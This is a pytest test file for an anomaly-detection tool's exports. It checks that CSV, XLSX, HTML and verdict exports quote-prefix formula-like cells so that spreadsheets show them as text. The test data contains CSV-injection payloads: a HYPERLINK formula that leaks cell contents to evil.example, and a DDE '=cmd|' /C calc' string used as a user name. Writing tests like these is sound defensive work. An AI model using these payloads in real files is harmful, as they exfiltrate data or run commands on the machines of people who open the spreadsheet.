"""Every cell of every export, headers included, is safe to open in a spreadsheet: a column named
``=HYPERLINK(...)`` and formula-like notes, reasons, user names and keys are written as text."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from cli import main as cli_main
from engine.feedback import VerdictStore
from engine.pipeline import AnomalyModel
from engine.schema import ColumnInfo, Role, Schema
from engine.spreadsheet import FORMULA_PREFIXES

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(FORMULA_PREFIXES), cell


@pytest.fixture(scope="module")
def scored(tmp_path_factory):
    root = tmp_path_factory.mktemp("neutralised")
    rng = np.random.default_rng(1)
    n = 200
    data = pd.DataFrame({"entry": np.arange(1, n + 1), EVIL: rng.normal(100, 5, n).round(2),
                         "@SUM(1+1)": rng.choice(["a", "b", "-x"], n), "+1": rng.normal(size=n)})
    schema = Schema(columns=[ColumnInfo("entry", Role.IDENTIFIER, "t"), ColumnInfo(EVIL, Role.NUMERIC, "t"),
                             ColumnInfo("@SUM(1+1)", Role.CATEGORICAL, "t"), ColumnInfo("+1", Role.NUMERIC, "t")])
    model_dir = AnomalyModel("ecod").fit(data, schema).save(root / "model")
    src = root / "data.csv"
    data.to_csv(src, index=False)
    out = root / "scores.csv"
    assert cli_main(["score", str(src), "--model", str(model_dir), "--out", str(out)]) == 0
    return root, src, model_dir, out


def test_score_out_neutralises_header_cells(scored):
    _, _, _, out = scored
    rows = _cells(out)
    _assert_no_formula(rows)
    assert f"'{EVIL}" in rows[0] and "'@SUM(1+1)" in rows[0] and "'+1" in rows[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_neutralises_header_cells_and_reads_them_back(scored, fmt):
    root, _, model_dir, out = scored
    target = root / f"report.{fmt}"
    assert cli_main(["report", str(out), "--model", str(model_dir), "--out", str(target)]) == 0
    if fmt == "csv":
        rows = _cells(target)
        _assert_no_formula(rows)
        assert any(c.startswith(f"'{EVIL}") for c in rows[0])
    else:
        openpyxl = pytest.importorskip("openpyxl")
        book = openpyxl.load_workbook(target)
        ws = book["Queue"] if "Queue" in book.sheetnames else book.active
        header = [c for c in ws[1]]
        evil = [c for c in header if str(c.value).startswith(EVIL)]
        assert evil and all(c.quotePrefix for c in evil)  # text, quote-prefixed: never a formula
        assert all(c.data_type == "s" for c in header)
        for sheet in book.worksheets:  # no sheet holds a formula
            assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_report_html_from_the_neutralised_scores_file_names_the_columns(scored):
    root, _, model_dir, out = scored
    target = root / "report.html"
    assert cli_main(["report", str(out), "--model", str(model_dir), "--out", str(target), "--top", "2"]) == 0
    html = target.read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example" in html  # the real name, escaped; no stray quote


def test_verdict_csv_export_neutralises_every_cell_and_round_trips(tmp_path):
    db = tmp_path / "v.sqlite"
    with VerdictStore(db, user="=cmd|' /C calc'!A0") as store:
        store.set_verdict("-17", "anomaly", note="=1+1", reason="@SUM(A1)")
        store.set_verdict("+4", "normal", note="\tline", reason="-2")
        store.set_verdict("plain", "unsure", note="fine")
        out = tmp_path / "verdicts.csv"
        assert store.export_csv(out) == 3
    rows = _cells(out)
    _assert_no_formula(rows)
    assert ["'-17", "anomaly", "'=1+1", "'@SUM(A1)", "'=cmd|' /C calc'!A0"] in [r[:5] for r in rows]
    assert sorted(p.name for p in tmp_path.iterdir() if "verdicts" in p.name) == ["verdicts.csv"]
    with VerdictStore(tmp_path / "w.sqlite", user="bob") as other:
        other.import_csv(out)
        assert other.get("-17").note == "=1+1" and other.get("-17").reason == "@SUM(A1)"
        assert other.get("-17").user == "=cmd|' /C calc'!A0"
        assert other.get("+4").reason == "-2"


def test_verdict_csv_export_is_atomic(tmp_path, monkeypatch):
    out = tmp_path / "verdicts.csv"
    out.write_text("previous")
    with VerdictStore(tmp_path / "v.sqlite", user="ana") as store:
        store.set_verdict("1", "anomaly")

        def broken(*_a, **_k):
            raise OSError("disk full")

        monkeypatch.setattr(csv, "writer", broken)
        with pytest.raises(OSError):
            store.export_csv(out)
    assert out.read_text() == "previous"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith((".verdicts", "verdicts"))] == ["verdicts.csv"]
